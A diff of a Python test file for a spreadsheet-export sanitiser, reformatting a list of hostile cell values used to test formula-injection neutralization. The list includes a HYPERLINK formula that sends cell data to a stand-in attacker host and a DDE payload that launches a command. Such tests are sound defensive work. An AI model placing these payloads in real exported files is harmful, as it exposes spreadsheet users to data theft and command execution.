@@ -11,8 +11,14 @@ from openpyxl import load_workbook
 
 from ingestion.safe_export import frame_rows, neutralize, write_csv, write_xlsx
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
